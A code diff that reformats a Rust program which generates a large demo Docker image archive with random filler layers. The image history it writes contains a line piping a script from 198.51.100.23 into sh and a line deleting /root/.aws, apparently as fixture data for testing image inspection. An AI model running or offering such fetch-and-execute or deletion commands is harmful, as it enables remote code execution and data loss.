@@ -17,7 +17,10 @@ fn main() -> std::io::Result<()> {
     let mut size_mb = 0usize;
     while let Some(a) = args.next() {
         if a == "--size-mb" {
-            size_mb = args.next().and_then(|v| v.parse().ok()).expect("--size-mb takes a number");
+            size_mb = args
+                .next()
+                .and_then(|v| v.parse().ok())
+                .expect("--size-mb takes a number");
         } else {
             out = Some(a);
         }
@@ -42,7 +45,10 @@ fn main() -> std::io::Result<()> {
         .env("API_TOKEN=tok_4f8a9c2e7b1d")
         .cmd(&["/usr/local/bin/start.sh"])
         .history("/bin/sh -c #(nop) ADD file:4f2a in / ", false)
-        .history("/bin/sh -c curl -fsSL http://198.51.100.23/install.sh | sh", false)
+        .history(
+            "/bin/sh -c curl -fsSL http://198.51.100.23/install.sh | sh",
+            false,
+        )
         .history("/bin/sh -c rm -rf /root/.aws", false);
     let mut seed = 0x2545_f491_4f6c_dd1du64;
     let mut left = size_mb << 20;
@@ -54,7 +60,9 @@ fn main() -> std::io::Result<()> {
             let size = (1 << 20).min(left);
             let mut content = Vec::with_capacity(size);
             while content.len() < size {
-                content.extend_from_slice(format!("{n} {seed:x} filler line of a big demo image\n").as_bytes());
+                content.extend_from_slice(
+                    format!("{n} {seed:x} filler line of a big demo image\n").as_bytes(),
+                );
                 seed ^= seed << 13;
                 seed ^= seed >> 7;
                 seed ^= seed << 17;
@@ -67,7 +75,8 @@ fn main() -> std::io::Result<()> {
         }
         img = img.layer(l.build(Compression::Gzip));
     }
-    img.build().write_docker_archive(std::path::Path::new(&out), "demo/app:latest", false)?;
+    img.build()
+        .write_docker_archive(std::path::Path::new(&out), "demo/app:latest", false)?;
     eprintln!("wrote {out}");
     Ok(())
 }
